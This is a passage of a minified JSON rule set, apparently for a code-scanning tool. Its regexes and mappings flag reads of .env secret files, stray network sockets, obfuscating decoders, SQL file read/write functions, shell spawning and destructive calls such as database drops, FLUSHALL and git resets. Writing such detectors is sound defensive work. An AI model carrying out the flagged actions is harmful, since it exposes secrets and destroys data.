-\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|\
-urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"besides-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|ht\
-tp\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"](?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"]\
-,"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|superagent|http2|['\\"](?:node:)?net['\\"]|global\
-This|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"name_readers":[["^[ \\\\t]*(?:from [\\\\w.]+ )?import (?\
-!.*\\\\bas\\\\b)[\\\\w ,{}*.]*(?= from [\\"']|\\\\s*(?:[;\\\\n]|$))(?: from [\\\\\\"'][\\\\w:/.@-]+[\\\\\\"'])?|\\\\b(?:const|let|var) (?:\\\\w+|\\\\{[\\\\w, ]+\\\\}) ?= ?(?:await import|re\
-quire)\\\\([\\\\\\"'][\\\\w:/.@-]+[\\\\\\"']\\\\)(?=\\\\s*(?:[;,\\\\n]|$))|^\\\\s*require [\\\\\\"'][\\\\w/-]+[\\\\\\"']",""],["\\\\b(?:pathlib\\\\.)?Path\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\
-\\w-]+)*[\\"']\\\\)\\\\.read_text\\\\([^()]*\\\\)","\\u00a7T"],["(?<![\\\\w.])open\\\\(\\\\s*[\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(?:mode=)?[\\"']r[bt]?[\\"'])?(?:, \
-?\\\\w+=[\\"'][\\\\w-]+[\\"'])?\\\\)","\\u00a7F"],["\\u00a7F\\\\.read\\\\(\\\\)","\\u00a7T"],["\\u00a7F\\\\.readlines\\\\(\\\\)","\\u00a7L"],["(?:(?<![\\\\w.])fs\\\\.|(?<![\\\\w.])require\\\\([\
-\\"'](?:node:)?fs[\\"']\\\\)\\\\.|(?<![\\\\w.]))readFileSync\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(?:[\\"'][\\\\w-]+[\\"']|\\\\{[^{}]*\\\\}))?\\\\)(?:\\\\.toString\\\
-\\(\\\\))?","\\u00a7T"],["\\\\bawait (?:Bun\\\\.file\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.text\\\\(\\\\)|Deno\\\\.readTextFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\
-\\.[\\\\w-]+)*[\\"']\\\\)|(?:fs|fsp)(?:\\\\.promises)?\\\\.readFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?[\\"'][\\\\w-]+[\\"'])?\\\\))","\\u00a7T"],["\\\\bFile\\\\.(\
-?:readlines|foreach|open)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?chomp: true)?\\\\)","\\u00a7L"],["\\\\bFile\\\\.read\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\
-\\w-]+)*[\\"']\\\\)","\\u00a7T"],["(?<![\\\\w.])(?:dotenv_values|Dotenv\\\\.parse)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)","\\u00a7O"],["(?:(?<![\\\\w.])dotenv|\
-(?<![\\\\w.])require\\\\([\\"']dotenv[\\"']\\\\))\\\\.parse\\\\(\\u00a7T\\\\)","\\u00a7O"],["\\u00a7T\\\\.(?:splitlines\\\\(\\\\)|split\\\\((?:[\\"']\\\\\\\\n[\\"']|\\\\/\\\\\\\\r\\\\?\\\\\\\\n\\\\/|\\\\/\\\\\\\
-\\n\\\\/)\\\\)|each_line\\\\b(?!\\\\()|lines\\\\b(?!\\\\())","\\u00a7L"],["\\\\bwith \\u00a7F as (\\\\w+)","=\\u00a7F"],["(?:\\\\b(?:const|let|var) )?(?<![\\\\w.\\\\]])(\\\\w+) ?= ?\\u00a7(\
-[TFLROM])(?![\\\\w.\\\\[?])","=\\u00a7$2"],["\\\\bfor (\\\\w+) in \\u00a7[FL](?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor ?\\\\((?:const|let|var) (\\\\w+) of \\u00a7L(?![\\\\w.\\\\[])","=\\\
-u00a7R"],["\\\\bfor \\\\w+, ?(\\\\w+) in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(\\\\w+)\\\\s*\\\\] of Object\\\\.entrie\
-s\\\\(\\u00a7O\\\\)","=\\u00a7R"],["\\u00a7L\\\\.(?:map|forEach|filter|flatMap|some|every)\\\\(\\\\(?(\\\\w+)\\\\)? ?=>","=\\u00a7R"],["\\u00a7L(?:\\\\.(?:each|map|select|reject|fil\
-ter_map))* ?(?:\\\\{|do) ?\\\\|(\\\\w+)\\\\|","=\\u00a7R"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)","=\\u00a7R"],[\
-"(?<![\\\\w.])\\\\w+, ?\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(?:\\\\.\\\\.\\\\.)?(\\\\w+)\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\
-\\"']","=\\u00a7R"],["\\u00a7R\\\\.(?:strip|rstrip|lstrip|trim|trimStart|trimEnd|chomp)(?:\\\\((?:[\\"'](?:\\\\\\\\[nrt]|\\\\s)*[\\"'])?\\\\)|(?![\\\\w(]))","\\u00a7R"],["(?:\\\\b(?:\
-const|let|var) )?(?<![\\\\w.])\\u00a7[TFLROM] ?= ?\\u00a7[TFLROM](?![\\\\w.\\\\[?])",""],["\\\\bwith \\u00a7F as \\u00a7F",""],["\\u00a7R\\\\.(?:split\\\\([\\"']=[\\"'](?:, ?(?:ma\
-xsplit=)?-?\\\\d+)?\\\\)|partition\\\\([\\"']=[\\"']\\\\))(?:\\\\[0\\\\]|\\\\.first\\\\b|\\\\.shift\\\\(\\\\))","_name_"],["\\u00a7R\\\\.(?:slice|substring)\\\\(0, ?\\u00a7R\\\\.indexOf\\\\([\\"'\
-]=[\\"']\\\\)\\\\)|\\u00a7R\\\\[:\\u00a7R\\\\.(?:index|find)\\\\([\\"']=[\\"']\\\\)\\\\]","_name_"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(\
-?:maxsplit=)?1\\\\)|(?<![\\\\w.])\\\\w+, ?\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)",""],["(?:\\\\b(?:const|let|var) )?\\\\[\\\\s*\\\\w+(?:, ?(?:\\\\.\\\\.\\\\.)?\\u00\
-a7R)?\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'][^()\\\\n]*\\\\)",""],["(?<![\\\\w.])re\\\\.(?:match|search)\\\\(r?([\\\\\\"'])\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*\
-])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\
-\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*\\\\1, ?\\u00a7R\\\\)","\\u00a7M"],["\\u00a7R\\\\.match\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z\
-|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\
-\\)|\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^\
-=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\.exec\\\\(\\u00a7R\\\\)","\\u00a7M"],["(?<![\\\\w.])re\\\\.findall\\\\(r?([\\\\\\"'])(\
-?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*\
-)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*]\
-(?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\1, ?\\u00a7[TR](?:, ?(?:flags=)?re\\\\.\\\\w+)?\\\\)","_name_"],["\\u00a7[TR]\\\\.(?:match\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)\
-?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\
-\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?!\
-[?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*g[imu]*\\\\)|scan\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\
-\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a\
--z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*\\\\))(?!\\\\.input)|\\u00a7R\\\\[\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:exp\
-ort\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\\
-*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/, ?1\\\\]","_name_"],["\\\\[\\\\.\\\\.\\\\.\\u00a7T\\\\.matchAll\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\\
-s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[gimu]*\\\\)\\\\]\\\\.\
-map\\\\(\\\\(?(\\\\w+)\\\\)? ?=> ?\\\\1\\\\[1\\\\]\\\\)","_name_"],["\\u00a7M(?:\\\\.group\\\\(1\\\\)|(?:\\\\?\\\\.)?\\\\[1\\\\])","_name_"],["(?:Object\\\\.keys|(?<![\\\\w.])(?:sorted|list|set|l\
-en))\\\\(\\u00a7O\\\\)|\\u00a7O\\\\.keys(?:\\\\(\\\\)|(?![\\\\w(]))|(?<=\\\\.join\\\\()\\u00a7O(?=\\\\))|(?<!\\\\*)\\\\*\\u00a7O(?=[,)])","_name_"],["\\\\bin \\u00a7O(?![\\\\w.\\\\[])","in _nam\
-e_"],["\\\\bfor \\\\w+, ?\\u00a7R in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))|\\\\[\\\\s*\\\\w+, ?\\u00a7R\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)|\\\\\
-bfor \\u00a7R in \\u00a7[FL](?![\\\\w.\\\\[])|\\\\(\\\\s*(?:const|let|var) \\u00a7R of \\u00a7L(?![\\\\w.\\\\[])","for _ in _"],["\\u00a7R\\\\.(?:startswith|startsWith|start_with\\\
-\\?|endswith|endsWith|includes|include\\\\?|isspace|empty\\\\?)(?:\\\\((?:[\\"'][^\\"'\\\\n]{0,3}[\\"'](?:, ?[\\"'][^\\"'\\\\n]{0,3}[\\"'])*|\\\\([\\"'][^()\\\\n]{0,20}\\\\))?\\\\)|(?![\\\
-\\w(]))|[\\"'][^\\"'\\\\n]{0,3}[\\"'] (?:not )?in \\u00a7R(?![\\\\w.\\\\[])|\\u00a7R(?:\\\\[0\\\\])? ?[!=]==? ?[\\"'][^\\"'\\\\n]{0,3}[\\"']","_ok_"],["\\\\/\\\\^\\\\\\\\?[#\\\\w]{1,4}(?:\\\\\\\\\
-s\\\\*)?\\\\/\\\\.test\\\\(\\u00a7R\\\\)|\\u00a7R =~ \\\\/\\\\^\\\\\\\\?[#\\\\w\\\\\\\\]{1,4}\\\\/|(?:\\\\bnot |!)\\u00a7[RM](?![\\\\w.\\\\[])|(?<![\\\\w.])len\\\\(\\u00a7L\\\\)|\\u00a7L\\\\.length\\\\b","_o\
-k_"],["\\\\b(if|unless) ((?:_ok_|\\\\b(?:and|or|not)\\\\b|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:and\\\\b|or\\\\b|else\\\\b|:|\\\\]|\\\\)|&&|\\\\|\\\\||\\\\n|$))","$1 $2_ok_"],["\\\\bif ?\\\\(((\
-?:_ok_|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:&&|\\\\|\\\\||\\\\)))","if ($1_ok_"],["\\u00a7L\\\\.filter\\\\((?:Boolean|\\\\(?\\u00a7R\\\\)? ?=> ?(?:_ok_|[!&| ()]|\\u00a7R (?=&&))+)\\\\)"\
-,"\\u00a7L"],["\\u00a7L\\\\.(?:map|forEach|flatMap|filter)\\\\(\\\\(?\\u00a7R\\\\)? ?=> ?","_list_("],["\\u00a7L(?:\\\\.(?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\
-\\|\\u00a7R\\\\|","_list_ {"]],"shared":{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters\
- $0","bytearray":"characters $0","ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar"\
-:"value $0","expanduser":"value $0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"v\
-alue $0","closing":"value $0","list":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.fro\
-m":"listed $0","from":"listed $0","b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0"\
-,"base64_decode":"fold base64 $0","decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base6\
-4 $0","atob":"fold base64 $0","b32decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"\
-fold unread $0","gzinflate":"fold unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold u\
-nread $0","gunzipSync":"fold unread $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex \
-$0","strrev":"fold reverse $0","reversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc\
-":"fold upper $0","trim":"fold trim $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURICompon\
-ent":"fold url $0","decodeURI":"fold url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","\
-map":"map $0 $1","array_map":"map $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0\
- $1","replaceAll":"if-text replace $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","t\
-oLowerCase":"if-text fold lower $self","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"\
-if-text fold trim $self","chomp":"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-s\
-tart $self","reverse":"reverse $self","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","byte\
-s":"value $self","bind":"value $self","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lastin\
-g run sql delete-all rows","clearAsync":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-\
-all rows","erase":"if-lasting run sql delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-\
-all rows","openDB":"if-made:store value $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self",\
-"pack":"pack $0 $self","unpack1":"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdig\
-est":"value","call":"invoke $self $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self\
- $0 $1.."},"deeds":{"drop_database":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","ensuredeleted":"if-kept run sq\
-l drop-database $owner","ensuredeletedasync":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run git checkout $all",\
-"update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","stash":"if-git run git \
-stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run sql drop-sch\
-ema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","extractall":"run tar xf archive -C $0:path","unpack_archiv\
-e":"run tar xf archive -C $0:path","extractto":"run tar xf archive -C $0:path","extract_archive":"run tar xf archive -C $1","drop_index":"value","drop_indexes":\
-"value","dropindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker r\
-un sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run s\
-ql delete-all $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept i\
-f-empty run sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept\
- run sql drop-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collect\
-ion":"made rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete\
-":"if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run clo\
-ud-sdk delete","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","dr\
-op":"if-made:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-\
-made:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begi\
-n","rescue","ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","publ\
-ic","private","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","\
-+=",".=","||=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"class_keywords":["class","module","interface","namespace"],"de\
-claring":["const","let","var","my","our","local","await","static","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","cryp\
-to","dgram","dns","events","fs","http","http2","https","module","net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_de\
-coder","timers","tls","tty","url","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calend\
-ar","cgi","cmath","codecs","collections","concurrent","configparser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","en\
-um","errno","fileinput","fnmatch","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","i\
-tertools","json","keyword","locale","logging","lzma","math","mimetypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint"\
-,"queue","random","re","sched","secrets","select","shelve","shlex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","stri\
-ng","struct","subprocess","sys","sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid",\
-"venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","\
-pydantic","zod","yaml","lodash","pandas","numpy","express","fastapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-do\
-m","linkedom","cheerio","nock","msw","supertest","sinon","jest","vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"pr\
-efixing":["new","await","not","typeof","void","defined","yield","async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","en\
-d","then","rescue","ensure","in","else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],\
-"leading_opening":["if","unless","while","until","for"],"spawning":["Start","spawn","spawnl","spawnlp","spawnv","spawnvp","spawnve","fork","vfork","Popen","posi\
-x_spawn","pcntl_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_shell"],"shells":["system","exec","shell_exe\
-c","popen","execSync","os","execute","shell","cmd"],"waiting":["break","return","exit","P_WAIT","wait","wait2","waitpid","waitpid2","wait4","join","communicate"\
-,"sleep","usleep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue","Sleep","Wait","Accept","Recv","receive","\
-Receive","select","After","Tick","delay","Delay","sleepAsync"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRI\
-GGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTIT\
-ION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","\
-EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["\
-OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["return","typeof","case","in","of","and","or","not","i\
-f","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for","foreach"],"data_signs":["driver","database","key-store","in-m\
-emory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods\
-":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h","filter_map","reverse_each"],"folding_methods":["reduce","inject\
-","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_all","grep"],"selecting_functions":["filter","takewhile","dropwhil\
-e","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces","queues","topics","streams","buckets","exchanges","repos","rep\
-ositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","servers","clusters","namespaces","organizations","customers","subscri\
-ptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","datasets","loadbalancers","backups","hostedzones","shards","replicas","\
-partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virtualmachines","droplets","keyspaces","customers","dnszones","stor\
-ageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","volumes","statefulsets","daemonsets","persistentvolumeclaims","pers\
-istentvolumes"],"deleting":["delete","rdelete","del","unprotect","drop","destroy","purge","truncate","wipe","terminate","erase","nuke","obliterate","expunge","d\
-eregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"passing":["label","labels","tag","tags","react\
-ion","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers","header","headers","interceptor","interceptors","cook\
-ie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_handler"],"deletion_fillers":["admin","schedul\
-e","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wait","now","by","id","command"],"imitating":["m\
-oto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","returns","resolves","rejects","mockImplementation",\
-"mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","mockRestore","reset","resetAll","resetAllMocks\
-","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exit__","unmock","doUnmock","enableNetConnect","\
-isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","foreach","while","until","do","switch","match","t\
-ry","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["return","throw","raise","await"],"exit_owners":["sys","process"],\
-"opening_statements":["if","for","while","do","switch","try","with","function","class","else","return","throw"],"defining":["def","class","function","func","fn"\
